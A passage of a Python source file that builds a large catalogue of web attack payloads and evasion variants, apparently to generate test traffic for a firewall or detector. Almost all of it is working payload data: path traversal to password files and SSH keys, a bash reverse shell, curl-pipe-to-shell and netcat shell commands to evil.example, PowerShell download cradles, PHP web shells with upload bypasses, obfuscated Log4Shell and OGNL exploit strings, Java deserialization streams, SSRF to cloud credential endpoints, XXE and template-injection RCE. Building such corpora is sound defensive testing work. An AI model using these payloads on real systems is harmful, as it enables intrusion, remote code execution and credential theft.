        C("overlong", "../../../../etc/passwd", places=["query"], wire="..%e0%80%af..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
        C("fullwidth", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
        C("jsonuni", "../../../../etc/passwd", enc="jsonuni", places=["json"]),
        C("base64", b64("../../../../etc/passwd"), places=["query", "json"], params=["f", "doc_b64"]),
    ]),
    ("..\\..\\..\\windows\\win.ini", [
        C("case", "..\\..\\..\\WiNdOwS\\wIn.InI"),
        C("pathtrick", "..\\..\\..\\windows\\win.ini."),
        C("pathtrick", "..\\..\\..\\windows\\win.ini::$DATA"),
        C("pathtrick", "../..\\../windows/win.ini"),
        C("pathtrick", "..\\..\\..\\windows\\win.ini...."),
        C("urlenc", "..\\..\\..\\windows\\win.ini", enc="urlenc", places=["query", "form"]),
        C("dblurl", "..\\..\\..\\windows\\win.ini", enc="dblurl", places=["query", "path"]),
        C("overlong", "..\\..\\..\\windows\\win.ini", enc="overlong", places=["query"]),
    ]),
    ("../../../../proc/self/environ", [
        C("pathtrick", "../../../../proc/self/./environ"),
        C("pathtrick", "../../../../proc//self//environ"),
        C("uenc", "../../../../proc/self/environ", enc="uenc", places=["query", "cookie"]),
        C("xmlent", "../../../../proc/self/environ", enc="xmlent", places=["xml"]),
    ]),
    ("../../WEB-INF/web.xml", [
        C("pathtrick", "/..;/WEB-INF/web.xml", places=["path"]),
        C("pathtrick", ".//..//..//WEB-INF//web.xml"),
        C("urlenc", "../../WEB-INF/web.xml", places=["query", "path"], wire="..%2f..%2fWEB-INF%2fweb.xml"),
    ]),
    ("file:///etc/passwd", [
        C("case", "FiLe:///etc/passwd"),
        C("pathtrick", "file://localhost/etc/passwd"),
        C("pathtrick", "file:/etc/passwd"),
        C("urlenc", "file:///etc/passwd", enc="urlenc", places=["query", "form"]),
    ]),
    ("/etc/shadow", [
        C("pathtrick", "//etc//shadow"),
        C("pathtrick", "/etc/./shadow"),
    ]),
    ("../../../../root/.ssh/id_rsa", [
        C("pathtrick", "....//....//....//....//root/.ssh/id_rsa"),
        C("uenc", "../../../../root/.ssh/id_rsa", enc="uenc", places=["query"]),
        C("pathtrick+urlenc", "..././..././..././..././root/.ssh/id_rsa", enc="urlenc", places=["query", "cookie"]),
    ]),
]

RFI = [
    ("http://evil.example/shell.txt?", [
        C("case", "HtTp://evil.example/shell.txt?"),
        C("case", "http://EVIL.EXAMPLE/shell.txt?"),
        C("nullbyte", "http://evil.example/shell.txt\x00", places=["query", "form", "cookie"]),
        C("pathtrick", "http://evil.example/shell.txt#"),
        C("urlenc", "http://evil.example/shell.txt?", enc="urlenc", places=["query", "form", "cookie"]),
        C("dblurl", "http://evil.example/shell.txt?", enc="dblurl", places=["query", "form"]),
        C("jsonuni", "http://evil.example/shell.txt?", enc="jsonuni", places=["json"]),
    ]),
    ("https://attacker.example/c99.php?", [
        C("case", "hTTpS://attacker.example/c99.php?"),
        C("urlenc", "https://attacker.example/c99.php?", enc="urlenc", places=["query", "form"]),
    ]),
    ("ftp://anonymous@evil.example/pub/x.txt", [
        C("case", "FTP://anonymous@evil.example/pub/x.txt"),
        C("dblurl", "ftp://anonymous@evil.example/pub/x.txt", enc="dblurl", places=["query"]),
    ]),
    ("\\\\evil.example\\share\\shell.php", [
        C("pathtrick", "//evil.example/share/shell.php"),
        C("urlenc", "\\\\evil.example\\share\\shell.php", enc="urlenc", places=["query", "form"]),
        C("pathtrick", "\\\\evil.example@SSL\\DavWWWRoot\\shell.php"),
    ]),
    ("http://203.0.113.66/backdoor.txt?", [
        C("ipobf", "http://%d/backdoor.txt?" % ip_dec("203.0.113.66")),
        C("ipobf", "http://0xCB.0x00.0x71.0x42/backdoor.txt?"),
        C("ipobf", "http://0313.0.0161.0102/backdoor.txt?"),
        C("ipobf+urlenc", "http://0xcb007142/backdoor.txt?", enc="urlenc", places=["query"]),
    ]),
]


def lfi_cases(rng):
    out = []
    for _canon, variants in LFI:
        for c in variants:
            c = dict(c)
            c["pathslash"] = True
            out.append(c)
    out += [
        C("mp-filename", "../../../../var/www/html/shell.php", special="mp_filename"),
        C("mp-filename", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", special="mp_filename"),
        C("mp-filenamestar", "../../../../etc/cron.d/job", special="mp_filenamestar"),
        C("hpp-last", ["report.pdf", "../../../../etc/passwd"], special="hpp", params=["file"]),
        C("overlong-raw", "../../../../etc/passwd", special="raw_overlong"),
    ]
    return out


def rfi_cases(rng):
    out = []
    for _canon, variants in RFI:
        out += [dict(c) for c in variants]
    out += [C("hpp-last", ["home", "http://evil.example/shell.txt?"], special="hpp-form", params=["page"])]
    return out


# ----------------------------------------------------------------------------- rce

REV = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
PS = "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')"
RCE = [
    (";cat /etc/passwd", [
        C("shell-backslash", ";c\\at /etc/passwd"),
        C("shell-quotes", ";c'a't /etc/passwd"),
        C("shell-ifs", ";cat${IFS}/etc/passwd"),
        C("shell-ifs", ";cat$IFS$9/etc/passwd"),
        C("shell-brace", ";{cat,/etc/passwd}"),
        C("shell-glob", ";/???/c?t /???/p?ss??"),
        C("shell-varsplit", ";a=c;b=at;$a$b /etc/passwd"),
        C("shell-dollarat", ";ca$@t /etc/passwd"),
        C("shell-redirect", ";cat</etc/passwd"),
        C("shell-newline", "\ncat /etc/passwd"),
        C("shell-printf", ";$(printf '\\x63\\x61\\x74') /etc/passwd"),
        C("base64", ";echo %s|base64 -d|sh" % b64("cat /etc/passwd")),
        C("urlenc", ";cat /etc/passwd", enc="urlenc", places=["query", "form"]),
    ]),
    ("|id", [
        C("shell-backslash", "|i\\d"),
        C("shell-hexstr", "|$'\\x69\\x64'"),
        C("shell-glob", "|/usr/bin/i?"),
        C("shell-quotes", "|i''d"),
        C("shell-varsubstr", "|${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id"),
    ]),
    ("$(whoami)", [
        C("shell-backslash", "$(who\\ami)"),
        C("shell-quotes", "$(w'h'o'a'm'i)"),
        C("shell-varsplit", "$(a=who;b=ami;$a$b)"),
        C("base64", "$(echo d2hvYW1p|base64 -d|sh)"),
        C("jsonuni", "$(whoami)", enc="jsonuni", places=["json"]),
    ]),
    ("`id`", [
        C("shell-quotes", '`i""d`'),
        C("shell-glob", "`/???/???/i?`"),
        C("shell-hexstr", "`$'\\151\\144'`"),
    ]),
    ("&& curl http://evil.example/x.sh | sh", [
        C("shell-backslash", "&&c\\url -s http://evil.example/x.sh|s\\h"),
        C("shell-ifs", "&&curl${IFS}http://evil.example/x.sh|sh"),
        C("shell-brace", "&&{curl,-s,http://evil.example/x.sh}|sh"),
        C("urlenc", "&& curl http://evil.example/x.sh | sh", enc="urlenc", places=["query", "form"]),
    ]),
    (";nc -e /bin/sh evil.example 4444", [
        C("shell-glob", ";n\\c -e /b??/sh evil.example 4444"),
        C("shell-ifs", ";nc${IFS}-e${IFS}/bin/sh${IFS}evil.example${IFS}4444"),
    ]),
    (";" + REV, [
        C("base64", ";echo %s|base64 -d|bash" % b64(REV)),
        C("shell-quotes", ";b'a'sh -c '%s'" % REV),
        C("shell-brace", ";bash -c '{echo,%s}|{base64,-d}|{bash,-i}'" % b64(REV)),
    ]),
    ("& type C:\\Windows\\win.ini", [
        C("shell-caret", "& ty^pe C:\\Windows\\win.ini"),
        C("shell-quotes", '& t"y"pe C:\\Windows\\win.ini'),
        C("case", "& TyPe C:\\WINDOWS\\WIN.INI"),
        C("shell-caret", "& w^h^o^a^m^i"),
        C("shell-varsplit", "& set a=who&& set b=ami&& call %a%%b%"),
    ]),
    ('| powershell -c "%s"' % PS, [
        C("base64", "| powershell -enc " + base64.b64encode(PS.encode("utf-16-le")).decode()),
        C("case", '| PoWeRsHeLl -c "%s"' % PS),
        C("concat", "| powershell -c \"IEX(New-Object Net.WebClient).('Down'+'loadString')('http://evil.example/x.ps1')\""),
    ]),
    ("() { :; }; /bin/cat /etc/passwd", [
        C("shellshock", "() { :; }; /bin/cat /etc/passwd", places=["header", "cookie"], headers=["User-Agent", "Referer", "X-Target-Host"]),
        C("shellshock", "() { :;}; echo; /bin/id", places=["header"], headers=["User-Agent", "Referer"]),
        C("shellshock", "() { _; } >_[$($())] { id; }", places=["header"], headers=["User-Agent"]),
        C("shellshock", "() { ignored;}; /bin/bash -c 'id'", places=["header"], headers=["X-Target-Host", "Referer"]),
    ]),
]


def rce_cases(rng):
    out = []
    pre = CTX["rce"]["prefix"]
    n = 0
    for _canon, variants in RCE:
        for c in variants:
            c = dict(c)
            if c["tech"] != "shellshock":
                c["value"] = pick(pre, n) + c["value"]
                n += 1
            out.append(c)
    out += [
        C("mp-filename", "x.jpg;id;.png", special="mp_filename"),
        C("mp-filename", "$(curl evil.example|sh).png", special="mp_filename"),
        C("mp-filenamestar", "a.png`id`", special="mp_filenamestar"),
        C("hpp", ["127.0.0.1;{cat", "/etc/passwd}"], special="hpp", params=["host"]),
        C("hpp", ["8.8.8.8|{curl", "-s", "http://evil.example/x.sh}|sh"], special="hpp-form", params=["target"]),
        C("shell-ifs+urlenc", "127.0.0.1;cat${IFS}/etc/passwd", enc="urlenc", places=["query", "cookie"]),
        C("shell-quotes+dblurl", "127.0.0.1|w'h'o'a'm'i", enc="dblurl", places=["query"]),
    ]
    return out


# ----------------------------------------------------------------------------- php

SHELL = "<?php system($_GET[c]); ?>"
OBJ1 = php_ser("Example\\Logger", {"logfile": "/var/www/html/shell.php", "data": "<?php system($_GET[c]); ?>"})
OBJ2 = 'a:2:{i:0;s:4:"test";i:1;' + php_ser("stdClass", {"cmd": "id"}) + "}"
PHP = [
    (SHELL, [
        C("case", "<?PhP SyStEm($_GET[c]); ?>"),
        C("altsyntax", "<?= system($_GET[c]) ?>"),
        C("altws", "<?php\tsystem($_GET[c]);?>"),
        C("altws", "<?php\nsystem ($_GET[c]);\n?>"),
        C("concat", "<?php $f='sys'.'tem';$f($_GET[c]); ?>"),
        C("concat", '<?php ("sys"."tem")($_GET[c]); ?>'),
        C("base64", "<?php eval(base64_decode('%s')); ?>" % b64("system($_GET[c]);")),
        C("charhex", '<?php $f="\\x73\\x79\\x73\\x74\\x65\\x6d";$f($_GET[c]); ?>'),
        C("urlenc", SHELL, enc="urlenc", places=["query", "form"]),
        C("logpoison", SHELL, places=["header"], headers=["User-Agent", "Referer"]),
    ]),
    ("php://filter/convert.base64-encode/resource=index.php", [
        C("case", "PhP://FiLtEr/convert.base64-encode/resource=index.php"),
        C("altsyntax", "php://filter/read=convert.base64-encode/resource=index.php"),
        C("altsyntax", "php://filter/convert.iconv.utf-8.utf-16le/resource=index.php"),
        C("altsyntax", "php://filter/string.rot13/resource=config.php"),
        C("altsyntax", "php://filter/zlib.deflate/convert.base64-encode/resource=../config.php"),
        C("urlenc", "php://filter/convert.base64-encode/resource=index.php", enc="urlenc", places=["query", "cookie"]),
        C("jsonuni", "php://filter/convert.base64-encode/resource=index.php", enc="jsonuni", places=["json"]),
    ]),
    (OBJ1, [
        C("plus-sign", OBJ1.replace("O:14:", "O:+14:"), places=["cookie", "form", "multipart"]),
        C("case", OBJ1.replace('"Example\\Logger"', '"eXaMpLe\\lOgGeR"'), places=["form", "json", "cookie"]),
        C("base64", b64(OBJ1), places=["cookie"], cookies=["user_prefs", "cart"]),
        C("wrap", "a:1:{i:0;%s}" % OBJ1, places=["form", "multipart"]),
    ]),
    (OBJ2, [
        C("plus-sign", OBJ2.replace("O:8:", "O:+8:"), places=["form", "cookie"]),
        C("base64", b64(OBJ2), places=["cookie", "json"], cookies=["PHPSESSID_DATA"], params=["state"]),
    ]),
    ("data://text/plain;base64," + b64(SHELL), [
        C("case", "DaTa://text/plain;base64," + b64(SHELL)),
        C("altsyntax", "data:text/plain,<?php system($_GET[c]); ?>"),
    ]),
    ("expect://id", [
        C("case", "ExPeCt://id"),
    ]),
    ("phar://uploads/avatar.jpg/test.txt", [
        C("case", "PHAR://uploads/avatar.jpg/test.txt"),
        C("altsyntax", "compress.zlib://phar://uploads/avatar.jpg/test.txt"),
    ]),
    ("system('id');", [
        C("concat", "('sys'.'tem')('id');", params=["code", "expr"]),
        C("charhex", '"\\x73ystem"("id");', params=["code", "expr"]),
        C("altsyntax", "echo `id`;", params=["code", "expr"]),
        C("base64", "eval(base64_decode('%s'));" % b64("system('id');"), params=["code", "expr"]),
    ]),
]


def php_cases(rng):
    out = []
    for _canon, variants in PHP:
        out += [dict(c) for c in variants]
    out += [
        C("mp-ext", ("avatar.php", SHELL, "image/png"), special="mp_upload"),
        C("mp-ext", ("avatar.pHp", SHELL, "image/jpeg"), special="mp_upload"),
        C("mp-ext", ("avatar.phtml", SHELL, "image/gif"), special="mp_upload"),
        C("mp-ext", ("avatar.php.jpg", SHELL, "image/jpeg"), special="mp_upload"),
        C("mp-magic", ("avatar.php", "GIF89a;\n" + SHELL, "image/gif"), special="mp_upload"),
        C("mp-ext", (".htaccess", "AddType application/x-httpd-php .jpg\n", "text/plain"), special="mp_upload"),
        C("mp-filenamestar", ("shell.php", "<?=`$_GET[c]`?>", "image/png"), special="mp_upload_star"),
        C("mp-boundary", SHELL, special="mp_boundary"),
    ]
    return out


# ----------------------------------------------------------------------------- java

JNDI = "${jndi:ldap://x.example/a}"
SPEL = "T(java.lang.Runtime).getRuntime().exec('id')"
OGNL = "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"
EL = "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"
FASTJSON = '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}'
S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
          "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
          "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
          "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
          "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
          "(#p.redirectErrorStream(true)).(#process=#p.start())."
          "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}")


def java_serial():
    """Start of a URLDNS-style Java serialization stream (marker AC ED 00 05)."""
    def utf(s):
        return len(s).to_bytes(2, "big") + s.encode()
    return (b"\xac\xed\x00\x05sr" + utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03\x00\x02F"
            + utf("loadFactor") + b"I" + utf("threshold") + b"xp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01"
            + b"sr" + utf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03\x00\x07I" + utf("hashCode")
            + b"I" + utf("port") + b"L" + utf("authority") + b"t" + utf("Ljava/lang/String;")
            + b"xp\xff\xff\xff\xff\xff\xff\xff\xfft" + utf("x.example") + b"t\x00\x00q\x00~\x00\x05t" + utf("http")
            + b"px" + b"t" + utf("http://x.example") + b"x")


SER = java_serial()
JAVA = [
    (JNDI, [
        C("log4j-nested", "${${lower:j}ndi:ldap://x.example/a}"),
        C("log4j-nested", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}"),
        C("log4j-nested", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"),
        C("log4j-nested", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}"),
        C("log4j-nested", "${${upper:j}ndi:ldap://x.example/a}"),
        C("log4j-nested", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}"),
        C("log4j-nested", "${${sys:x:-j}${sys:x:-n}di:ldap://x.example/a}"),
        C("case", "${JnDi:ldap://x.example/a}"),
        C("altsyntax", "${jndi:dns://x.example/a}"),
        C("altsyntax", "${jndi:ldap://127.0.0.1#x.example:1389/a}"),
        C("urlenc", JNDI, enc="urlenc", places=["query", "cookie", "form"]),
        C("jsonuni", JNDI, enc="jsonuni", places=["json"]),
        C("log4j-nested+urlenc", "${${lower:j}${lower:n}di:ldap://x.example/a}", enc="urlenc", places=["query", "path"]),
    ]),
    (SPEL, [
        C("altws", "T (java.lang.Runtime).getRuntime().exec('id')"),
        C("concat", "T(java.lang.Runtime).getRuntime().exec('i'+'d')"),
        C("charhex", "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))"),
        C("altsyntax", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
        C("altsyntax", "new java.lang.ProcessBuilder({'id'}).start()"),
        C("concat", "''.class.forName('java.la'+'ng.Runtime').getMethod('getRuntime').invoke(null).exec('id')"),
        C("header-route", SPEL, places=["header"], headers=["spring.cloud.function.routing-expression"]),
    ]),
    (OGNL, [
        C("altsyntax", OGNL.replace("%{", "${", 1)),
        C("uniesc", "%{(#_memberAccess['allow\\u0053taticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('\\u0069d'))}"),
        C("urlenc", OGNL, enc="urlenc", places=["query", "path"]),
        C("ognl-ctype", S2_045, special="ognl_ctype"),
    ]),
    (EL, [
        C("altsyntax", "#" + EL[1:]),
        C("concat", "${''.getClass().forName('java.la'.concat('ng.Runtime')).getMethod('getRuntime').invoke(null).exec('id')}"),
        C("bracket", "${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ]),
    ("deser", [
        C("base64", b64(SER), places=["cookie", "form", "header"], cookies=["rememberMe", "JSESSIONID_X"], params=["javax.faces.ViewState", "state"], headers=["X-Session-State"]),
        C("hex", SER.hex(), places=["form", "json"], params=["payload", "state"]),
        C("gzip-base64", b64(gzip.compress(SER, mtime=0)), places=["form"], params=["javax.faces.ViewState"]),
        C("binary", SER, special="raw_serial"),
        C("jsonuni", FASTJSON.replace('"@type"', '"\\u0040type"'), special="json_raw"),
        C("hexesc", FASTJSON.replace('"@type"', '"\\x40type"'), special="json_raw"),
        C("altsyntax", FASTJSON.replace("com.sun.rowset.JdbcRowSetImpl", "Lcom.sun.rowset.JdbcRowSetImpl;"), special="json_raw"),
        C("altsyntax", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://x.example/a","autoCommit":true}]', special="json_raw"),
        C("xmldecoder", '<?xml version="1.0" encoding="UTF-8"?>\n<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>', special="xml_raw"),
        C("xstream", '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>', special="xml_raw"),
    ]),
    ("spring4shell", [
        C("param-name", "", special="spring4shell", places=["form"]),
        C("param-name+urlenc", "", special="spring4shell", places=["query"]),
        C("param-name", "", special="spring4shell", places=["multipart"]),
    ]),
]


def java_cases(rng):
    out = []
    for _canon, variants in JAVA:
        out += [dict(c) for c in variants]
    return out


# ----------------------------------------------------------------------------- ssrf

GOPHER = "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"
SSRF = [
    ("http://169.254.169.254/latest/meta-data/", [
        C("ipobf", "http://%d/latest/meta-data/" % ip_dec("169.254.169.254")),
        C("ipobf", "http://0xa9fea9fe/latest/meta-data/"),
        C("ipobf", "http://0251.0376.0251.0376/latest/meta-data/"),
        C("ipobf", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        C("url-confusion", "http://evil.example@169.254.169.254/latest/meta-data/"),
        C("fullwidth", "http://\uff11\uff16\uff19.\uff12\uff15\uff14.\uff11\uff16\uff19.\uff12\uff15\uff14/latest/meta-data/"),
        C("fullwidth", "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/"),
        C("case", "HtTp://169.254.169.254/latest/meta-data/"),
        C("urlenc", "http://169.254.169.254/latest/meta-data/", enc="urlenc", places=["query", "form"]),
        C("jsonuni", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", enc="jsonuni", places=["json"]),
    ]),
    ("http://127.0.0.1:6379/", [
        C("ipobf", "http://127.1:6379/"),
        C("ipobf", "http://0:6379/"),
        C("ipobf", "http://[::1]:6379/"),
        C("ipobf", "http://2130706433:6379/"),
        C("ipobf", "http://0x7f000001:6379/"),
        C("ipobf", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env"),
    ]),
    (GOPHER, [
        C("case", GOPHER.replace("gopher", "GoPhEr")),
        C("ipobf", GOPHER.replace("127.0.0.1", "0x7f.0.0.1")),
        C("dblurl", GOPHER, enc="dblurl", places=["query", "form"]),
    ]),
    ("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", [
        C("altsyntax", "http://metadata/computeMetadata/v1/instance/service-accounts/default/token"),
        C("ipobf", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
        C("case", "http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/instance/service-accounts/default/token"),
    ]),
    ("dict://127.0.0.1:11211/stats", [
        C("ipobf", "dict://localhost:11211/stats"),
        C("urlenc", "dict://127.0.0.1:11211/stats", enc="urlenc", places=["query"]),
    ]),
    ("http://[fd00:ec2::254]/latest/meta-data/", [
        C("urlenc", "http://[fd00:ec2::254]/latest/meta-data/", enc="urlenc", places=["query", "form"]),
        C("ipobf", "http://%d/latest/meta-data/" % ip_dec("100.100.100.200")),
    ]),
]


def ssrf_cases(rng):
    out = []
    for _canon, variants in SSRF:
        out += [dict(c) for c in variants]
    out += [
        C("hpp-last", ["https://cdn.example.com/a.png", "http://169.254.169.254/latest/meta-data/"], special="hpp", params=["url"]),
        C("mp-boundary", "http://127.0.0.1:6379/", special="mp_boundary"),
        C("base64", b64("http://169.254.169.254/latest/user-data"), places=["query", "json"], params=["u", "src_b64"]),
    ]
    return out


# ----------------------------------------------------------------------------- xxe

def utf7_all(text):
    """UTF-7 with every non-alphanumeric character in its base64 form ('<' -> '+ADw-')."""
    out = []
    for ch in text:
        if ch.isascii() and (ch.isalnum() or ch in " \n"):
            out.append(ch)
        else:
            out.append("+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out)


def xxe_cases(rng):
    head = '<?xml version="1.0" encoding="UTF-8"?>\n'
    file_ent = head + '<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><id>&xxe;</id><qty>1</qty></order>'
    bodies = [
        ("altws", head + "<!DOCTYPE   order\n[\n  <!ENTITY\txxe\tSYSTEM\t'file:///etc/passwd'\t>\n]>\n<order><id>&xxe;</id></order>"),
        ("param-entity", head + '<!DOCTYPE order [<!ENTITY % dtd SYSTEM "http://evil.example/evil.dtd"> %dtd;]>\n<order><id>1</id></order>'),
        ("external-dtd", head + '<!DOCTYPE order SYSTEM "http://evil.example/evil.dtd">\n<order><id>1</id></order>'),
        ("public-id", head + '<!DOCTYPE order PUBLIC "-//EVIL//DTD Order//EN" "http://evil.example/order.dtd">\n<order><id>1</id></order>'),
        ("xinclude", head + '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id><xi:include parse="text" href="file:///etc/passwd"/></id></order>'),
        ("php-wrapper", head + '<!DOCTYPE order [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>\n<order><id>&xxe;</id></order>'),
        ("expect", head + '<!DOCTYPE order [<!ENTITY xxe SYSTEM "expect://id">]>\n<order><id>&xxe;</id></order>'),
        ("nested-entity", head + "<!DOCTYPE order [<!ENTITY % a \"<!ENTITY xxe SYSTEM 'file:///etc/hostname'>\"> %a;]>\n<order><id>&xxe;</id></order>"),
        ("oob-cdata", head + '<!DOCTYPE order [<!ENTITY % start "<![CDATA["><!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://evil.example/join.dtd"> %dtd;]>\n<order><id>&all;</id></order>'),
        ("ssrf-entity", head + '<!DOCTYPE order [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<order><id>&xxe;</id></order>'),
    ]
    out = [C(t, b, special="xml_raw") for t, b in bodies]
    out += [
        C("soap", '<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                  '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
                  '<getUser><name>&xxe;</name></getUser></soapenv:Body></soapenv:Envelope>', special="xml_raw"),
        C("ctype-switch", file_ent, special="xml_raw", ctype="text/xml", path="/api/v1/users"),
        C("utf16", file_ent.replace("UTF-8", "UTF-16"), special="raw_utf16le"),
        C("utf16", file_ent.replace("UTF-8", "UTF-16BE"), special="raw_utf16be"),
        C("utf7", '<?xml version="1.0" encoding="UTF-7"?>' + utf7_all(file_ent.split("?>", 1)[1]), special="xml_raw"),
        C("svg-upload", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                        '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>',
          special="mp_upload_xml"),
        C("form-param", file_ent, places=["form"], params=["xml", "data"], ctx="xxe"),
        C("urlenc", file_ent, enc="urlenc", places=["form", "query"], params=["xml"], ctx="xxe"),
    ]
    return out


CTX["xxe"] = dict(host="orders.example.com", paths=["/api/import", "/orders/xml", "/soap/OrderService"], params=["xml"],
                  cookies=[], headers=[], pathbase="/", extra=["", "format=xml"])


# ----------------------------------------------------------------------------- ssti

JINJA = "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"
SSTI = [
    ("{{7*7}}", [
        C("altws", "{{ 7 * 7 }}"),
        C("altsyntax", "{{7*'7'}}"),
        C("urlenc", "{{7*7}}", enc="urlenc", places=["query", "form"]),
        C("uenc", "{{7*7}}", enc="uenc", places=["query", "cookie"]),
        C("jsonuni", "{{7*7}}", enc="jsonuni", places=["json"]),
    ]),
    (JINJA, [
        C("attrfilter", "{{config|attr('__class__')|attr('__init__')|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')()}}"),
        C("hexesc", "{{config['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f']['os'].popen('id').read()}}"),
        C("concat", "{{config['__cla'+'ss__']['__in'+'it__']['__glo'+'bals__']['os'].popen('id').read()}}"),
        C("altsyntax", "{{lipsum.__globals__.os.popen('id').read()}}"),
        C("altsyntax", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
                       "{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
        C("uniesc", "{{config['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005finit\\u005f\\u005f']['\\u005f\\u005fglobals\\u005f\\u005f']['os'].popen('id').read()}}"),
        C("param-smuggle", "", special="jinja_args"),
        C("urlenc", JINJA, enc="urlenc", places=["query", "form"]),
        C("altws+jsonuni", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", enc="jsonuni", places=["json"]),
    ]),
    ("${7*7}", [
        C("altsyntax", "#{7*7}"),
        C("altsyntax", "*{7*7}"),
        C("altsyntax", "[[${7*7}]]"),
        C("altsyntax", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        C("urlenc", "${7*7}", enc="urlenc", places=["query"]),
    ]),
    ("<%= 7*7 %>", [
        C("altws", "<%=7*7%>"),
        C("altsyntax", "<%= `id` %>"),
        C("altsyntax", "<%= system('id') %>"),
        C("urlenc", "<%= 7*7 %>", enc="urlenc", places=["query", "form"]),
    ]),
    ('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', [
        C("altsyntax", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"),
        C("altsyntax", '${"freemarker.template.utility.Execute"?new()("id")}'),
        C("urlenc", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', enc="urlenc", places=["query", "form"]),
    ]),
    ('#set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")', [
        C("altws", '#set( $e = "" )\n$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'),
        C("urlenc", '#set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")', enc="urlenc", places=["query", "form"]),
    ]),
    ("{{['id']|filter('system')}}", [
        C("altsyntax", "{{['id']|map('system')|join}}"),
        C("altsyntax", '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'),
        C("altws", "{{ ['id'] | filter('system') }}"),
    ]),
    ("{system('id')}", [
        C("altsyntax", "{system('id')}"),
    ]),
]


def ssti_cases(rng):
    out = []
    for _canon, variants in SSTI:
        out += [dict(c) for c in variants]
    out += [
        C("mp-boundary", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", special="mp_boundary"),
        C("base64", b64('{"subject":"Hi {{cycler.__init__.__globals__.os.popen(\'id\').read()}}"}'), places=["cookie", "query"], cookies=["draft"], params=["draft"]),
    ]
